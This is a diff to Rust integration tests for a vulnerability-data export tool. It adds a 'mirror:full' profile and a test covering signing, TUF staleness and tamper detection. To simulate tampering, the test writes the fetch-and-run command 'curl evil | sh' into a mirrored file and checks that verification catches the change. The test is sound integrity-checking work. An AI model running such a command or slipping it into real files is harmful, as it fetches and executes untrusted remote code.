@@ -327,7 +327,7 @@ fn profiles_lists_every_bundled_profile() {
     assert!(o.status.success());
     let list: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
     let ids: Vec<&str> = list.as_array().unwrap().iter().map(|p| p["id"].as_str().unwrap()).collect();
-    assert_eq!(ids, ["devportal:offline", "json:policy", "json:raw", "trivy:db", "trivy:java-db"]);
+    assert_eq!(ids, ["devportal:offline", "json:policy", "json:raw", "mirror:full", "trivy:db", "trivy:java-db"]);
     assert!(list.as_array().unwrap().iter().all(|p| !p["description"].as_str().unwrap().is_empty()));
 }
 
@@ -873,4 +873,39 @@ fn selectors_through_the_cli() {
         "selectors.modifiedUntil",
     );
     assert_run_fails(&s, &["--id", "CVE 1"], "ERR_EXPORT_REQUEST_INVALID", "selectors.ids[0]");
+}
+
+#[test]
+fn mirror_full_through_the_cli() {
+    let tmp = tempfile::tempdir().unwrap();
+    let prefix = tmp.path().join("signer");
+    let o = run(&["keygen", "--algorithm", "ed25519", "--out", prefix.to_str().unwrap()]);
+    assert!(o.status.success(), "{}", text(&o));
+    let (key, public) = (format!("{}.key", prefix.display()), format!("{}.pub", prefix.display()));
+    let out = tmp.path().join("mirror");
+    let o = export("mirror:full", &samples(), &out, &["--sign-key", &key, "--created-at", "2025-06-01T00:00:00Z"]);
+    assert!(o.status.success(), "{}", text(&o));
+    for f in ["mirror/export.json", "oci/index.json", "tuf/metadata/timestamp.json", "manifest.dsse.json"] {
+        assert!(out.join(f).is_file(), "{f} missing");
+    }
+    let o = run(&["verify", out.to_str().unwrap(), "--key", &public, "--now", "2025-06-02T00:00:00Z"]);
+    assert!(o.status.success(), "{}", text(&o));
+    assert!(text(&o).contains("signatures valid"), "{}", text(&o));
+    // After the timestamp role's 90 days: stale, exit 1.
+    let o = run(&["verify", out.to_str().unwrap(), "--key", &public, "--now", "2025-10-01T00:00:00Z"]);
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    assert!(text(&o).contains("ERR_EXPORT_STALE") && text(&o).contains("timestamp.json"), "{}", text(&o));
+    // A TUF target edited on the way: exit 1, naming it.
+    let sha = {
+        let export: serde_json::Value =
+            serde_json::from_slice(&std::fs::read(out.join("mirror/export.json")).unwrap()).unwrap();
+        export["files"].as_array().unwrap().iter().find(|f| f["path"] == "README.md").unwrap()["sha256"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    std::fs::write(out.join(format!("tuf/targets/{sha}.README.md")), "curl evil | sh\n").unwrap();
+    let o = run(&["verify", out.to_str().unwrap(), "--key", &public, "--now", "2025-06-02T00:00:00Z"]);
+    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
+    assert!(text(&o).contains("README.md"), "{}", text(&o));
 }
